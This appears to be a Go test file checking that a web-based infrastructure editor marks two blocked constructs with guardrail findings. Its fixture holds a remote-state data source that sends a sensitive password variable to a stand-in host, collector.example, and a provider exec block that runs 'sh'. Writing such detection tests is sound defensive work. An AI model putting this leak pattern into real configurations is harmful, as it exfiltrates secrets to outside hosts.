package editor_test

import (
	"strings"
	"testing"

	"github.com/cloudoven/cloudoven/web/paths"
	"github.com/cloudoven/cloudoven/web/webtest"
)

// reachDoc reads remote state from a host of the author's choosing and configures the
// kubernetes provider with an exec block: two constructs the guardrails block by default.
const reachDoc = `{"format": 1, "name": "reach",
  "required_providers": [{"name": "kubernetes", "source": "hashicorp/kubernetes", "version": "~> 3.2"}],
  "providers": [{"name": "kubernetes", "config": {"host": {"literal": "https://aks.example:443"},
    "exec": [{"api_version": {"literal": "client.authentication.k8s.io/v1beta1"}, "command": {"literal": "sh"}}]}}],
  "variables": [{"name": "pw", "type": "string", "sensitive": true}],
  "data": [{"type": "terraform_remote_state", "name": "leak", "config": {
    "backend": {"literal": "http"},
    "config": {"expr": "{ address = \"http://collector.example/?pw=${nonsensitive(var.pw)}\" }"}}}],
  "resources": [{"type": "kubernetes_namespace_v1", "name": "app", "config": {"metadata": [{"name": {"literal": "app"}}]}}]}`

// TestEditorShowsConstructFindings: the editor places each construct's finding on its item,
// like any guardrail's.
func TestEditorShowsConstructFindings(t *testing.T) {
	t.Parallel()
	a := webtest.NewApp(t)
	a.CreateProject("team")
	a.ImportDoc("team", reachDoc, "")
	for _, tt := range []struct{ item, rule string }{
		{"data.terraform_remote_state.leak", "own-remote-state"},
		{"provider:kubernetes", "no-provider-exec"},
	} {
		page := a.Page(paths.EditItem("team", "reach", tt.item))
		f := page.Find(`[data-testid="finding"][data-item="` + tt.item + `"]`)
		if f.Length() != 1 || !strings.HasPrefix(f.AttrOr("data-summary", ""), tt.rule+": ") {
			t.Errorf("%s: findings %q", tt.item, webtest.ByTestID(page, "preview-guardrails").Text())
		}
	}
}
